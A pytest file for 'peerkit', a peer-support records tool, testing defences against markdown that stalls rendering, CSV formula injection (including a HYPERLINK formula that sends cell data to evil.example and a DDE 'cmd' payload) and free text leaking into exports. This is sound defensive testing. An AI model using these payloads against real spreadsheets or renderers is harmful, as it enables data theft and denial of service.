"""Hostile content that is valid YAML: markdown that stalls a build, spreadsheet formulas in
exports, free text leaking through exports, values the two validators disagree on, and whole
numbers written as floats.

Each test states its records beside its assertions and runs the real CLI (markdown rendering
is also run in a subprocess with a time limit, so a stall fails the test instead of hanging it).
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from conftest import AS_OF, problems, run, run_check, write

# --- markdown: bounded time, bounded nesting, every markdown field -------------------

# Families of markup that made Python-Markdown superlinear (or recursive), as Python
# expressions of N, the size in characters to build.
FAMILIES = {
    "brackets": "'[' * N",
    "anchor tags": "'<a ' * (N // 3)",
    "images": "'![' * (N // 2)",
    "links": "'[link](x) ' * (N // 10)",
    "link openers": "'[](' * (N // 3)",
    "nested link text": "'[' * (N // 2) + 'a' + '](x)' * (N // 8)",
    "setext headings": "'a\\n=\\n' * (N // 4)",
    "setext dashes": "'a\\n-\\n' * (N // 4)",
    "emphasis runs": "'*_' * (N // 2)",
    "emphasis words": "'**_* ' * (N // 5)",
    "nested emphasis": "'*' * (N // 2) + 'a' + '*' * (N // 2)",
    "backslashes": "'\\\\' * N",
    "escaped backticks": "'\\\\``' * (N // 3)",
    "backticks": "'a``' * (N // 3)",
    "cdata": "'<![CDATA[' * (N // 9)",
    "text then cdata": "'a <![CDATA[' * (N // 11)",
    "unclosed divs": "'<div>\\n' * (N // 6)",
    "entities": "'&#' * (N // 2)",
    "table rows": "'a|b\\n' * (N // 4)",
    "reference labels": "'[a]\\n' * (N // 4)",
    "blank lines": "'\\n' * N",
    "list nested by indent": "''.join(' ' * (4 * i) + '- x\\n' for i in range(int((N / 2) ** 0.5)))",
    "list nested by markers": "'- ' * (N // 2) + 'deepest'",
    "quotes": "'>' * N + ' deepest'",
}

RENDER = textwrap.dedent("""
    import sys, time
    from peerkit.html import markdown_html
    family = sys.argv[1]
    for N in (15_000, 500_000):
        text = eval(family)
        start = time.perf_counter()
        html = markdown_html.__wrapped__(text)
        print(N, len(text), f"{time.perf_counter() - start:.3f}s", len(html), flush=True)
""")


@pytest.mark.parametrize("family", sorted(FAMILIES))
def test_every_markdown_family_renders_in_bounded_time(family):
    """~15 KB (under the markdown limit) and ~500 KB (over it, as if it had bypassed check):
    each finishes, without a traceback, well inside the guard (timings in the output)."""
    done = subprocess.run([sys.executable, "-c", RENDER, FAMILIES[family]], capture_output=True, text=True,
                          timeout=20)
    assert done.returncode == 0, done.stderr[-2000:]
    assert len(done.stdout.splitlines()) == 2, done.stdout


def test_a_list_nested_past_the_limit_renders_all_its_text():
    """Deep nesting is never dropped or a RecursionError: the innermost word still shows."""
    script = textwrap.dedent("""
        from peerkit.html import markdown_html
        deep = "".join("    " * i + f"- level{i}\\n" for i in range(300))
        quoted = "> " * 5000 + "innermost"
        print(markdown_html(deep)[-200:], markdown_html(quoted)[-200:])
    """)
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=20)
    assert done.returncode == 0, done.stderr[-2000:]
    assert "level299" in done.stdout and "innermost" in done.stdout


# Where each markdown field sits in a record: (file, YAML with {text} for the field, its line).
MARKDOWN_FIELDS = {
    "supporter notes": ("supporters/ben-shah.yaml", """
        id: ben-shah
        name: Ben Shah
        status: active
        joined: 2024-03-01
        notes: {text}
    """, 5),
    "meeting notes": ("meetings/2025/2025-03-12-check-in-ben.yaml", """
        date: 2025-03-12
        kind: coordinator-one-to-one
        supporter: ben-shah
        setting: online
        duration_minutes: 30
        notes: {text}
    """, 6),
    "debrief notes": ("meetings/2025/2025-03-10-wellbeing-group.yaml", """
        date: 2025-03-10
        kind: group
        facilitators: [amara-okafor, ben-shah]
        setting: in-house
        duration_minutes: 90
        attendance: 8
        debrief:
          date: 2025-03-10
          notes: {text}
    """, 9),
    "supervision notes": ("supervision/2025/2025-03-20-amara-okafor.yaml", """
        date: 2025-03-20
        supporter: amara-okafor
        type: clinical
        supervisor: Jo Hill
        focus: [reflection]
        notes: {text}
    """, 6),
    "cpd reflection": ("cpd/amara-okafor/2025-04-10-safeguarding-refresher.yaml", """
        supporter: amara-okafor
        date: 2025-04-10
        title: Safeguarding adults refresher
        type: e-learning
        hours: 3
        mandatory: safeguarding
        reflection: {text}
    """, 7),
}


def _nested_list(depth: int) -> str:
    """A list ``depth`` levels deep, each level indented four spaces (Markdown's own rule)."""
    return "".join("    " * i + f"- level {i + 1}\n" for i in range(depth))


def _put(records: Path, field: str, text: str) -> tuple[str, int]:
    """Write ``text`` as a block scalar into ``field``'s record; return its file and the field's line."""
    rel, template, _ = MARKDOWN_FIELDS[field]
    lines = textwrap.dedent(template).lstrip("\n").splitlines()
    index = next(i for i, line in enumerate(lines) if "{text}" in line)
    indent = " " * (len(lines[index]) - len(lines[index].lstrip()) + 2)
    lines[index] = lines[index].replace("{text}", "|\n" + textwrap.indent(text, indent).rstrip("\n"))
    (records / rel).write_text("\n".join(lines) + "\n", encoding="utf-8")
    return rel, index + 1


@pytest.mark.parametrize("field", sorted(MARKDOWN_FIELDS))
def test_check_refuses_markdown_nested_too_deep_in_every_markdown_field(records, field):
    rel, line = _put(records, field, _nested_list(10))
    exit_code, output = run_check(records, "--no-cache")
    assert exit_code == 0 and not problems(output, records, "markdown-too-deep"), output  # 10 levels is fine

    _put(records, field, _nested_list(11))
    exit_code, output = run_check(records, "--no-cache")

    [found] = problems(output, records, "markdown-too-deep")
    assert (found.path, found.line, found.severity) == (rel, line, "error"), output
    assert "11 levels" in found.message and "at most 10" in found.message
    assert exit_code == 1


@pytest.mark.parametrize("field", sorted(MARKDOWN_FIELDS))
def test_check_refuses_markdown_too_long_to_render_in_every_markdown_field(records, field):
    rel, line = _put(records, field, "[" * 200_000 + "\n")
    exit_code, output = run_check(records, "--no-cache")

    [found] = problems(output, records, "markdown-too-long")
    assert (found.path, found.line, found.severity) == (rel, line, "error"), output
    assert "200,001 characters" in found.message
    assert exit_code == 1


@pytest.mark.parametrize("depth, code", [(250, "markdown-too-long"), (60, "markdown-too-deep")])
def test_build_refuses_a_deeply_nested_note_with_one_line_not_a_traceback(records, tmp_path, depth, code):
    """A list ~250 deep (125 KB) gave Python-Markdown a RecursionError in the middle of a build."""
    rel, line = _put(records, "supporter notes", _nested_list(depth))

    exit_code, output = run("build", records, "-o", tmp_path / "site", "--as-of", AS_OF, "--no-pdf")

    assert exit_code == 1 and "Traceback" not in output
    [found] = problems(output, records)
    assert (found.path, found.line, found.code) == (rel, line, code), output
    assert not (tmp_path / "site").exists()


# --- exports: no formulas, no free text or paths unless asked for -----------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", " =1+1", "\u00a0@SUM(1)", "\uff1d1+1", "\uff0bcmd", "\uff20SUM(1)", "\uff0d1"]


def _yaml_text(value: str) -> str:
    return json.dumps(value)  # a JSON string is a YAML double-quoted string


def _formula_records(records: Path, formula: str) -> None:
    text = _yaml_text(formula)
    write(records / "supporters/ben-shah.yaml", f"""
        id: ben-shah
        name: {text}
        status: active
        joined: 2024-03-01
        supervision:
          supervisor: {text}
        training:
          accreditation:
            body: {text}
            title: {text}
    """)
    write(records / "supervision/2025/2025-03-25-ben-shah.yaml", f"""
        date: 2025-03-25
        supporter: ben-shah
        type: managerial
        supervisor: {text}
        duration_minutes: 45
        focus: [development]
    """)
    write(records / "cpd/ben-shah/2025-04-11-formula.yaml", f"""
        supporter: ben-shah
        date: 2025-04-11
        title: {text}
        type: reading
        provider: {text}
        hours: 2.5
    """)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _dangerous(cell: str) -> bool:
    """What a spreadsheet may read as a formula: a trigger first, after any blanks, in any width."""
    import unicodedata

    stripped = cell.lstrip(" \u00a0\u3000")
    if cell[:1] in ("\t", "\r") or not stripped:
        return cell[:1] in ("\t", "\r")
    return unicodedata.normalize("NFKC", stripped[0]) in "=+-@"


@pytest.mark.parametrize("formula", FORMULAS)
def test_export_neutralises_formulas_in_every_text_cell_and_keeps_numbers(records, formula):
    _formula_records(records, formula)
    assert run_check(records)[0] == 0

    exports = {"supporters (default)": run("export", "supporters", records)}
    exports.update({kind: run("export", kind, records, "--with-text") for kind in ("supporters", "supervision", "cpd")})

    seen = 0
    for kind, (exit_code, output) in exports.items():
        assert exit_code == 0, output
        for row in _cells(output):
            for cell in row:
                assert not _dangerous(cell), (kind, cell)
                seen += cell.startswith("'" + formula)
    # the name twice; supervisor, accreditation (body in it), supervision's supervisor, title, provider
    assert seen == 7
    [header, *rows] = _cells(exports["cpd"][1])
    assert [row[header.index("hours")] for row in rows] == ["3", "2.5"]  # numbers stay numbers


MARKER = "Zanzibarqx"  # unique, so any leak is found


def _free_text_records(records: Path) -> None:
    """A marker in every free-text field an export could carry, and in file names."""
    write(records / "supporters/ben-shah.yaml", f"""
        id: ben-shah
        name: Ben Shah
        status: active
        joined: 2024-03-01
        supervision:
          supervisor: Dr {MARKER}
        training:
          accreditation:
            body: {MARKER} Institute
            title: Peer support
    """)
    # `peerkit new meeting --topic` puts the topic in the file name.
    write(records / f"meetings/2025/2025-03-18-group-{MARKER.lower()}-recovery.yaml", f"""
        date: 2025-03-18
        kind: group
        facilitators: [amara-okafor, ben-shah]
        setting: in-house
        duration_minutes: 60
        topic: {MARKER} recovery
        attendance: 5
    """)
    write(records / f"supervision/2025/2025-03-25-{MARKER.lower()}.yaml", f"""
        date: 2025-03-25
        supporter: ben-shah
        type: managerial
        supervisor: {MARKER} Jones
        focus: [development]
    """)
    write(records / f"cpd/ben-shah/2025-04-11-{MARKER.lower()}.yaml", f"""
        supporter: ben-shah
        date: 2025-04-11
        title: {MARKER} course
        type: course
        provider: {MARKER} College
        hours: 1
    """)


@pytest.mark.parametrize("kind", ["supporters", "meetings", "supervision", "cpd"])
def test_exports_leave_out_free_text_and_paths_unless_asked(records, kind):
    _free_text_records(records)
    assert run_check(records)[0] == 0

    exit_code, output = run("export", kind, records)

    assert exit_code == 0, output
    assert MARKER.lower() not in output.lower()
    assert "path" not in _cells(output)[0]


def test_exports_carry_paths_and_text_when_asked(records):
    _free_text_records(records)

    meetings = run("export", "meetings", records, "--with-paths")
    supervision = run("export", "supervision", records, "--with-text")
    cpd = run("export", "cpd", records, "--with-text", "--with-paths")

    assert meetings[0] == 0 and f"2025-03-18-group-{MARKER.lower()}-recovery.yaml" in meetings[1]
    assert "meetings/2025/2025-03-04-one-to-one-mentee.yaml" in meetings[1]  # the mentee's code stays out
    assert MARKER.lower() + "-recovery" in meetings[1] and f"{MARKER} recovery" not in meetings[1]  # never the topic
    assert f"{MARKER} Jones" in supervision[1] and "path" not in _cells(supervision[1])[0]
    assert f"{MARKER} course" in cpd[1] and f"{MARKER} College" in cpd[1] and "path" in _cells(cpd[1])[0]


def test_export_refuses_path_and_text_options_with_aggregate(records):
    exit_code, output = run("export", "meetings", records, "--aggregate", "month", "--with-paths")
    assert exit_code == 2 and "--aggregate month" in output


# --- the two validators agree; non-finite numbers are wrong types ------------------

@pytest.mark.parametrize("value", [".nan", ".NaN", ".inf", "-.Inf", "+.INF", "1.0e+999"])
@pytest.mark.parametrize("where", ["cpd hours", "programme target"])
def test_non_finite_numbers_are_wrong_type_at_their_line(records, value, where):
    if where == "cpd hours":
        rel, line = "cpd/amara-okafor/2025-04-10-safeguarding-refresher.yaml", 5
        write(records / rel, f"""
            supporter: amara-okafor
            date: 2025-04-10
            title: Safeguarding adults refresher
            type: e-learning
            hours: {value}
            mandatory: safeguarding
        """)
    else:
        rel, line = "programme.yaml", 6
        path = records / rel
        path.write_text(path.read_text().replace("target_hours_per_year: 20", f"target_hours_per_year: {value}"))

    exit_code, output = run_check(records, "--no-cache")

    [found] = [p for p in problems(output, records) if p.path == rel]
    assert (found.line, found.code) == (line, "wrong-type"), output
    assert value in found.message and "write a number" in found.message
    assert exit_code == 1


@pytest.mark.parametrize("rel, text, line, field", [
    ("supporters/eve.yaml", 'id: "eve\\n"\nname: Eve\nstatus: active\njoined: 2024-01-01\n', 1, "id"),
    ("supporters/ben-shah.yaml", 'id: ben-shah\nname: Ben\nstatus: active\njoined: 2024-03-01\n'
                                 'competencies_assessed:\n  "listening\\n": 2024-06-01\n', 5, "competencies_assessed"),
    ("meetings/2025/2025-03-12-check-in-ben.yaml", 'date: 2025-03-12\nkind: coordinator-one-to-one\n'
     'supporter: "ben-shah\\n"\nsetting: online\nduration_minutes: 30\n', 3, "supporter"),
    ("meetings/2025/2025-03-04-one-to-one-dk.yaml", 'date: 2025-03-04\nkind: one-to-one\nsupporter: amara-okafor\n'
     'mentee: DK\nsetting: community\nduration_minutes: 60\nlone_working:\n  checked_in: "10:00\\n"\n'
     '  checked_out: "11:05"\ndebrief:\n  date: 2025-03-05\n', 8, "lone_working.checked_in"),
    ("cpd/amara-okafor/2025-04-10-safeguarding-refresher.yaml", 'supporter: amara-okafor\ndate: 2025-04-10\n'
     'title: Refresher\ntype: e-learning\nhours: 3\nmandatory: "safeguarding\\n"\n', 6, "mandatory"),
])
def test_a_trailing_newline_does_not_sneak_past_a_pattern(records, rel, text, line, field):
    (records / rel).write_text(text, encoding="utf-8")

    exit_code, output = run_check(records, "--no-cache")

    found = [p for p in problems(output, records) if p.path == rel]
    assert [(p.line, p.code) for p in found] == [(line, "bad-format")], output
    assert found[0].message.startswith(field)
    assert exit_code == 1


def test_a_rejection_the_reference_validator_cannot_explain_is_still_an_error(records, monkeypatch):
    """Should the two validators ever disagree again, the record is refused, not accepted."""
    from jsonschema import Draft202012Validator

    from peerkit import validate

    monkeypatch.setattr(validate, "validator", lambda kind: Draft202012Validator({}))  # explains nothing
    rel = "meetings/2025/2025-03-12-check-in-ben.yaml"
    (records / rel).write_text("date: 2025-03-12\nkind: coordinator-one-to-one\nsupporter: ben-shah\n"
                               "setting: online\nduration_minutes: 3000\n", encoding="utf-8")

    exit_code, output = run_check(records, "--no-cache")

    [found] = problems(output, records)
    assert (found.path, found.line, found.code) == (rel, 5, "invalid"), output
    assert found.message.startswith("duration_minutes ") and "peerkit schema meeting" in found.message
    assert exit_code == 1


# --- whole numbers written as floats -----------------------------------------------

INTEGERS_AS_FLOATS = {
    "programme.yaml": [("default_interval_days: 42", "default_interval_days: 42.0"),
                       ("debrief_within_days: 2", "debrief_within_days: 2.0"),
                       ("renew_every_months: 12", "renew_every_months: 12.0"),
                       ("target_hours_per_year: 20", "target_hours_per_year: 20.0")],
    "supporters/amara-okafor.yaml": [("interval_days: 42", "interval_days: 4.2e+1")],
    "meetings/2025/2025-03-04-one-to-one-dk.yaml": [("duration_minutes: 60", "duration_minutes: 60.0")],
    "meetings/2025/2025-03-10-wellbeing-group.yaml": [("attendance: 8", "attendance: 8.0"),
                                                      ("duration_minutes: 90", "duration_minutes: 90.00")],
    "supervision/2025/2025-03-20-amara-okafor.yaml": [("duration_minutes: 60", "duration_minutes: 60.")],
    "cpd/amara-okafor/2025-04-10-safeguarding-refresher.yaml": [("hours: 3", "hours: 3.0")],
}


def _outputs(records: Path, site: Path) -> dict[str, bytes]:
    """Everything peerkit makes of the records: the site, due, every export."""
    assert run("build", records, "-o", site, "--as-of", AS_OF, "--no-pdf")[0] == 0
    made = {p.relative_to(site).as_posix(): p.read_bytes() for p in sorted(site.rglob("*")) if p.is_file()}
    # The marker's page keys hash the record files' bytes (36.0 is not 36); every file it lists must agree.
    made[".peerkit-site"] = json.dumps(json.loads(made[".peerkit-site"].partition(b"\n")[2])["files"]).encode()
    made["due"] = run("due", records, "--as-of", AS_OF, "--format", "json", "--within", "400")[1].encode()
    for kind in ("supporters", "meetings", "supervision", "cpd"):
        made[kind] = run("export", kind, records, "--with-text", "--with-paths")[1].encode()
    made["portfolio"] = run("portfolio", "amara-okafor", records, "-o", site.parent / "portfolio", "--as-of", AS_OF,
                            "--no-pdf")[1].encode().replace(str(site.parent).encode(), b"")
    return made


def test_whole_numbers_written_as_floats_work_everywhere_as_the_integers(records, tmp_path):
    """renew_every_months: 36.0 passed check, then build and due crashed with a traceback."""
    as_integers = _outputs(records, tmp_path / "ints" / "site")
    for rel, changes in INTEGERS_AS_FLOATS.items():
        path = records / rel
        text = path.read_text()
        for old, new in changes:
            assert old in text, (rel, old)
            text = text.replace(old, new)
        path.write_text(text)

    exit_code, output = run_check(records, "--no-cache")
    assert (exit_code, problems(output, records)) == (0, []), output

    assert _outputs(records, tmp_path / "floats" / "site") == as_integers


# --- the limits are where users read them ---------------------------------------------

def test_markdown_limits_and_codes_are_documented_in_readme_and_schemas():
    import re

    from peerkit import markup
    from peerkit.codes import BY_CODE
    from peerkit.kinds import NAMES
    from peerkit.validate import schema

    repo = Path(__file__).resolve().parents[1]
    codes = set(re.findall(r'"(markdown-[a-z-]+)"', (repo / "peerkit/markup.py").read_text(encoding="utf-8")))
    rules = (repo / "README.md").read_text(encoding="utf-8").split("## Rules", 1)[1].split("\n## ", 1)[0]
    assert codes == {"markdown-too-long", "markdown-too-deep"} and codes <= set(BY_CODE)
    assert all(f"| `{code}` | error |" in rules for code in codes)
    assert f"over {markup.MAX_CHARS:,} characters" in rules and f"more than {markup.MAX_NESTING} levels" in rules
    for kind in NAMES:
        description = schema(kind)["$defs"]["markdown"]["description"]
        assert f"at most {markup.MAX_CHARS:,} characters" in description
        assert f"nested at most {markup.MAX_NESTING} deep" in description
